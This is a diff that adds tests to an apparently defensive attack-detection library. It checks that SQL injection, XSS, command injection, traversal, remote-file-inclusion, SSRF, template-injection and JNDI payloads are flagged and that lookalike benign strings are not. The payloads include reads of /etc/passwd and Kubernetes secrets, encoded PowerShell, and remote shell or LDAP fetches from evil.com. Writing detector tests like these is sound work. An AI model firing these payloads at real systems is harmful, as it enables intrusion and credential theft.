@@ -97,3 +97,53 @@ describe("normalization limits", () => {
     expect(lastRule.length >= 0).toBe(true);
   });
 });
+
+describe("payload-list shapes found in the audit of issue #3", () => {
+  it("sqli: nested parentheses, bare tautologies, a lone stacked statement, JavaScript-escaped quotes", () => {
+    const attacks: StaticArray<string> = [
+      "')) or (('1'='1", "1)) or ((1=1", "or 1=1", "or 0=0 --", "' or 0=0 #", ";SHUTDOWN--", "\\u0027 OR 1=1--",
+    ];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["Sleep(5) hours a night is too little", "Sleep (8 hours) is healthy", "or maybe later", "or 12 pieces", "; update: shipped"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
+  });
+  it("xss: script-string breakouts, url(javascript:) in a style, JavaScript-escaped tags", () => {
+    const attacks: StaticArray<string> = [
+      "\"-alert(1)-\"", "'-alert(1)-'", "\\\";alert(1);//", "')+confirm`1`+('", "<div style=\"background:url(javascript:alert(1))\">",
+      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e",
+    ];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["She said \"-Alert the team-\" loudly", "\"Hello\" - confirm (please) your booking", "'Fetch' is what my dog does",
+      "<p style=\"color:red\">red</p>", "The style url(images/bg.png) works", "Use \\u00e9 for e-acute"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+  it("cmdi: brace expansion, wildcard paths, ${PATH:0:1} slashes, .exe names", () => {
+    const attacks: StaticArray<string> = [";{ls,-la}", ";{cat,/etc/passwd}", ";/???/??t /???/p??s??", ";cat${PATH:0:1}etc${PATH:0:1}passwd", "& powershell.exe -enc SQBFAFgA"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["{ls, cat, dog}", "I like dogs; cat, too", "Shop #123 at 5* rating"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
+  });
+  it("traversal to service-account tokens; rfi protocol-relative, but not links to application pages", () => {
+    expect(hits("/var/run/secrets/kubernetes.io/serviceaccount/token", AttackClass.Traversal)).toBe(true);
+    expect(hits("//evil.com/shell.php", AttackClass.Rfi)).toBe(true);
+    expect(hits("http://evil.com/shell.txt?x=1", AttackClass.Rfi)).toBe(true);
+    expect(hits("https://shop.example.com/cart.php?id=3&qty=2", AttackClass.Rfi)).toBe(false);
+    expect(hits("//cdn.example.com/lib/app.js", AttackClass.Rfi)).toBe(false);
+  });
+  it("ssrf: Kubernetes API, localhost.localdomain, IPv6 loopback with leading zeros, jar: URLs", () => {
+    const attacks: StaticArray<string> = ["http://kubernetes.default.svc/api/v1/secrets", "https://kubernetes.default/api", "http://localhost.localdomain/",
+      "http://[0000::1]:80/", "http://[0:0:0:0:0:0:0:0]/", "jar:http://127.0.0.1!/"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
+    expect(hits("http://[2001:db8::1]/", AttackClass.Ssrf)).toBe(false);
+    expect(hits("http://[1::]/", AttackClass.Ssrf)).toBe(false);
+  });
+  it("ssti: Velocity directives and Twig filters/dump", () => {
+    const attacks: StaticArray<string> = ["#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{dump(app)}}", "{{['id']|filter('system')}}", "{{_self.env.display(\"id\")}}"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssti)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["Please use #set for sets", "#hashtag #set #foreach", "Hi {{first_name}}, your order {{order_id}} shipped", "Dump truck for sale"];
+    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
+  });
+  it("jndi: a brace written as a JavaScript escape", () => {
+    expect(hits("$\\u007bjndi:ldap://evil.com/a}", AttackClass.Jndi)).toBe(true);
+  });
+});
